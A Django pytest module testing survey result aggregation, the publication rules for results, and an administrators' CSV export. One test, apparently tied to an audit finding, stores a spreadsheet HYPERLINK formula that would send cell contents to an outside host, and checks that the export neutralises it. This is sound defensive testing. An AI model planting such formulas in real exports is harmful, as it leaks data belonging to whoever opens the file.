"""Survey results (computed in the database) and the administrators' CSV export."""

import csv
import datetime
import io

import pytest
from django.urls import reverse
from django.utils import timezone

from feedback.models import SurveyAnswer, SurveyResponse
from feedback.selectors import surveys as selectors
from tests.priorities.factories import SurveyChoiceFactory, SurveyFactory, SurveyQuestionFactory
from tests.wards.factories import DistrictFactory

pytestmark = pytest.mark.django_db


@pytest.fixture
def districts():
    return DistrictFactory(name="Ashford", code="E07000105"), DistrictFactory(name="Dover", code="E07000108")


@pytest.fixture
def survey(districts):
    """Four responses, hand-computed:

    scale 8, 6, 9 (one did not answer): average 7.7 overall (23/3); Ashford 8 and 6 → 7.0.
    yes/no yes, no, yes, yes: 75.0% yes overall; Ashford yes, no → 50.0%.
    multiple (up to 6 of 7): A+B, A, A+C, none → answered 3: A 100.0%, B 33.3%, C 33.3%; top five A, B, C.
    """
    ashford, dover = districts
    survey = SurveyFactory(
        slug="results-example",
        opens_at=timezone.now() - datetime.timedelta(days=40),
        closes_at=timezone.now() - datetime.timedelta(days=10),
    )
    scale = SurveyQuestionFactory(survey=survey, position=1, kind="scale", text="How safe do you feel?")
    yes_no = SurveyQuestionFactory(survey=survey, position=2, kind="yes_no", text="Victim of crime?")
    multiple = SurveyQuestionFactory(survey=survey, position=3, kind="multiple", text="Which issues?", max_choices=6)
    choices = {
        text: SurveyChoiceFactory(question=multiple, position=position, text=text)
        for position, text in enumerate("ABCDEFG", start=1)
    }
    rows = [(ashford, 8, True, "AB"), (ashford, 6, False, "A"), (dover, 9, True, "AC"), (None, None, True, "")]
    for district, score, yes, picked in rows:
        response = SurveyResponse.objects.create(survey=survey, district=district)
        if score is not None:
            SurveyAnswer.objects.create(response=response, question=scale, scale=score)
        SurveyAnswer.objects.create(response=response, question=yes_no, yes=yes)
        if picked:
            answer = SurveyAnswer.objects.create(response=response, question=multiple)
            answer.choices.set([choices[letter] for letter in picked])
    return survey


def _results(survey, district=None):
    return selectors.survey_results(survey=selectors.survey_for_page(slug=survey.slug), district=district)


def test_survey_results_overall_match_hand_computed(survey):
    results = _results(survey)
    scale, yes_no, multiple = results.questions
    assert results.respondents == 4
    assert (scale.answered, scale.average) == (3, 7.7)
    assert (yes_no.answered, yes_no.yes_percent) == (4, 75.0)
    assert multiple.answered == 3
    percents = {result.choice.text: result.percent for result in multiple.choices}
    assert percents == {"A": 100.0, "B": 33.3, "C": 33.3, "D": 0.0, "E": 0.0, "F": 0.0, "G": 0.0}
    assert [result.choice.text for result in multiple.top_choices] == ["A", "B", "C"]


def test_survey_results_by_district_match_hand_computed(survey, districts):
    results = _results(survey, district=districts[0])
    scale, yes_no, multiple = results.questions
    assert results.respondents == 2
    assert (scale.answered, scale.average) == (2, 7.0)
    assert yes_no.yes_percent == 50.0
    assert {result.choice.text: result.count for result in multiple.choices if result.count} == {"A": 2, "B": 1}


def test_survey_results_top_five_only(survey):
    question = survey.questions.get(position=3)
    for letters in ["BCDEFG", "CDEFG", "DEFG", "EFG", "FG"]:
        answer = SurveyAnswer.objects.create(response=SurveyResponse.objects.create(survey=survey), question=question)
        answer.choices.set(question.choices.filter(text__in=list(letters)))
    top = _results(survey).questions[2].top_choices
    # F 5, G 5, E 4, then A, C and D 3 each (ties in the order offered): D is sixth.
    assert [result.choice.text for result in top] == ["F", "G", "E", "A", "C"]


def test_survey_results_query_count_is_fixed(survey, django_assert_num_queries):
    loaded = selectors.survey_for_page(slug=survey.slug)
    # 1 answers grouped by question, 2 choices annotated with counts, 3 count of respondents
    with django_assert_num_queries(3):
        selectors.survey_results(survey=loaded)


def test_survey_results_page_public_once_closed(client, survey, districts):
    response = client.get(reverse("feedback:survey_results", args=[survey.slug]))
    content = response.content.decode()
    assert response.status_code == 200
    assert "4 people answered" in content
    assert "7.7" in content
    assert "75.0%" in content
    assert "The top five" in content
    assert "Download every response" not in content
    by_district = client.get(reverse("feedback:survey_results", args=[survey.slug]), {"district": "E07000105"})
    assert "2 people answered in Ashford" in by_district.content.decode()


def test_survey_results_page_waits_for_close_for_public(client, survey, officer):
    survey.closes_at = timezone.now() + datetime.timedelta(days=1)
    survey.save()
    url = reverse("feedback:survey_results", args=[survey.slug])
    assert "The results are published when the survey closes" in client.get(url).content.decode()
    client.force_login(officer)
    content = client.get(url).content.decode()
    assert "4 people answered" in content
    assert "Download every response" not in content


def test_survey_results_page_offers_export_to_administrators(client, survey, admin_user):
    client.force_login(admin_user)
    content = client.get(reverse("feedback:survey_results", args=[survey.slug])).content.decode()
    assert reverse("feedback:staff_survey_export", args=[survey.slug]) in content


def test_survey_results_page_empty_survey(client):
    survey = SurveyFactory(opens_at=timezone.now() - datetime.timedelta(days=9), closes_at=timezone.now())
    SurveyQuestionFactory(survey=survey, kind="scale", text="How safe?")
    content = client.get(reverse("feedback:survey_results", args=[survey.slug])).content.decode()
    assert "0 people answered" in content


def test_survey_export_csv_one_row_per_response(client, survey, admin_user):
    client.force_login(admin_user)
    response = client.get(reverse("feedback:staff_survey_export", args=[survey.slug]))
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    rows = list(csv.reader(io.StringIO(response.content.decode())))
    assert rows[0][2:] == ["District", "Ward", "How safe do you feel?", "Victim of crime?", "Which issues?"]
    assert len(rows) == 5
    assert rows[1][2:] == ["Ashford", "", "8", "Yes", "A; B"]
    assert rows[4][2:] == ["", "", "", "Yes", ""]


def test_finding_4_survey_export_writes_typed_formulas_as_text(client, admin_user):
    survey = SurveyFactory(slug="formulas")
    question = SurveyQuestionFactory(survey=survey, position=1, kind="text", text="=1+1")
    response = SurveyResponse.objects.create(survey=survey)
    SurveyAnswer.objects.create(response=response, question=question, text='=HYPERLINK("http://example.com/?"&A1)')
    client.force_login(admin_user)

    content = client.get(reverse("feedback:staff_survey_export", args=[survey.slug])).content.decode()

    rows = list(csv.reader(io.StringIO(content)))
    assert rows[0][4] == "'=1+1"
    assert rows[1][4] == '\'=HYPERLINK("http://example.com/?"&A1)'


@pytest.mark.parametrize("persona", ["outsider", "officer", "chair", "partner"])
def test_survey_export_refused_to_others(client, survey, persona, request):
    client.force_login(request.getfixturevalue(persona))
    assert client.get(reverse("feedback:staff_survey_export", args=[survey.slug])).status_code == 403


def test_survey_export_needs_sign_in(client, survey):
    response = client.get(reverse("feedback:staff_survey_export", args=[survey.slug]))
    assert response.status_code == 302


def test_survey_export_unknown_survey_not_found(client, admin_user):
    client.force_login(admin_user)
    assert client.get(reverse("feedback:staff_survey_export", args=["nope"])).status_code == 404
